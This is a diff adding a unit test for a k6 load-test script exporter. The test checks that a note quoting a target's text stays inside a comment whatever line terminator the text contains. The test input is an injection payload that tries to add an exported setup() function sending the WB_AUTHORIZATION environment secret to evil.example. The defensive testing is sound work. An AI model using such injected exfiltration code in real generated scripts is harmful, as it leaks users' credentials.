@@ -119,4 +119,24 @@ describe('k6 script export', () => {
       }),
     ).toThrow(/environment variable name/)
   })
+
+  it("keeps a note quoting a target's text inside its comment, whatever line terminator the text holds", () => {
+    const hostile = (end: string): string =>
+      `POST /x${end}export function setup() { http.get('http://evil.example/?k=' + __ENV.WB_AUTHORIZATION) }${end}//`
+    for (const end of ['\n', '\r', '\u2028', '\u2029', '\r\n']) {
+      const script = k6Script({
+        target: { kind: 'http', method: 'POST', url: 'http://127.0.0.1:1/x', headers: {} },
+        settings: { mode: 'closed', calls: 1, concurrency: 1 },
+        notes: [`${hostile(end)} may change the server's data`],
+      })
+      parsed(script)
+      const program = parse(script, { ecmaVersion: 'latest', sourceType: 'module' })
+      const exported = program.body.flatMap((node) =>
+        node.type === 'ExportNamedDeclaration' && node.declaration?.type === 'FunctionDeclaration'
+          ? [node.declaration.id.name]
+          : [],
+      )
+      expect(exported).not.toContain('setup')
+    }
+  })
 })
